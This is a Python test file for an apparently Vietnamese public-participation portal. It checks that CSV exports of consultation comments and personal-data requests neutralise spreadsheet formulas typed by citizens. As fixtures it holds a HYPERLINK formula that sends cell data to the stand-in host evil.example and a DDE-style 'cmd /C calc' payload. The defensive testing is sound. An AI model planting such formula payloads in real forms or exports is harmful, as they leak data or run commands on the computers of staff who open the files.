"""The participation exports (consultation summary, personal data) hold what citizens
typed: a formula arrives in the spreadsheet as text, downloaded by the users who may."""

from __future__ import annotations

import csv
import datetime as dt
import io

from django_tenants.utils import schema_context

from django.urls import reverse
from django.utils import timezone

from accounts.roles import APPROVER, BOARD_HEAD
from core.exports import FORMULA_STARTS
from tests.support.admin import signed_in
from tests.support.participation import question_data
from tests.support.portals import client_for

from .test_consultation import comment_data, make_consultation

HYPERLINK = '=HYPERLINK("http://evil.example/?q="&A2,"Xem chi tiết")'
AT_FORMULA = "@SUM(1+1)*cmd|' /C calc'!A0"
PLUS = "+thong tin them"


def rows_of(response) -> list[list[str]]:
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def assert_no_live_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), cell


def test_consultation_summary_cells_typed_by_citizens_arrive_as_text(portal_a, make_local_user):
    from participation.models import ConsultationComment, ConsultationPage

    page = make_consultation(portal_a, "congthuc", -dt.timedelta(days=1), dt.timedelta(days=1))
    response = client_for(portal_a).post(
        f"/lay-y-kien/{page.slug}/",
        comment_data(full_name=HYPERLINK, section=AT_FORMULA, body=PLUS + " về Điều 2 của dự thảo"),
    )
    assert response.status_code == 302, response.content.decode()[:500]
    with schema_context(portal_a.schema_name):
        assert ConsultationComment.objects.get(page=page).full_name == HYPERLINK  # stored as typed
        ConsultationPage.objects.filter(pk=page.pk).update(closes_at=timezone.now() - dt.timedelta(minutes=1))

    board = signed_in(portal_a, make_local_user(portal_a, "bbt.congthuc", APPROVER))
    rows = rows_of(board.get(reverse("participation_comment:summary", args=(page.pk,))))
    comment = rows[1]
    assert comment[2] == "'" + HYPERLINK
    assert comment[7] == "'" + AT_FORMULA
    assert comment[8] == "'" + PLUS + " về Điều 2 của dự thảo"
    assert_no_live_formula(rows)


def test_personal_data_export_cells_typed_by_citizens_arrive_as_text(portal_a, make_local_user):
    response = client_for(portal_a).post(
        "/hoi-dap/gui-cau-hoi/",
        question_data(
            portal_a, full_name=HYPERLINK, address=AT_FORMULA, email="congthuc@example.vn",
            title="-1+1 thủ tục", body="=1+1 xin hỏi hồ sơ đăng ký hộ kinh doanh gồm những gì?",
        ),
    )
    assert response.status_code == 200 and "tracking-code" in response.content.decode()

    head = signed_in(portal_a, make_local_user(portal_a, "tbbt.congthuc", BOARD_HEAD))
    rows = rows_of(head.post(
        reverse("participation_question:personal_data"),
        {"email": "congthuc@example.vn", "operation": "csv"},
    ))
    header, row = rows[0], rows[1]
    record = dict(zip(header, row, strict=True))
    assert record["full_name"] == "'" + HYPERLINK
    assert record["address"] == "'" + AT_FORMULA
    assert record["tieu_de"] == "'-1+1 thủ tục"
    assert record["noi_dung"].startswith("'=1+1 xin hỏi")
    assert_no_live_formula(rows)
